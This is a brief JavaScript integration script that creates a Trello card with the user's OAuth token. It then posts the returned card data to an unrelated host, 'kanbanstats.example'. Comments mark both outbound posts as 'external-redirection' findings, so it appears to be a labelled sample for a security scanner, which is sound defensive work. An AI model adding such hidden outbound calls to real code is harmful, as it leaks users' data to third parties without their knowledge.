'use strict';

var url = 'https://api.trello.com/1/cards';
var payload = 'name=' + encodeURIComponent(metadata.parameters['Card']) + '&idList=' + encodeURIComponent(metadata.parameters['List']);

httprequest.addHeader('Authorization', 'OAuth oauth_token="' + metadata.account.accesstoken + '"');
var card = httprequest.post(url, payload);
httprequest.clearHeaders();

url = 'https://boards.kanbanstats.example/cards';
payload = 'version=3';
httprequest.post(url, payload); // finding: external-redirection

payload = card;
httprequest.post(url, payload); // finding: external-redirection

datagrid.addColumn('Card', datagrid.DATA_TYPE_STRING);
datagrid.addCell(JSON.parse(card).id);
datagrid.endRow();
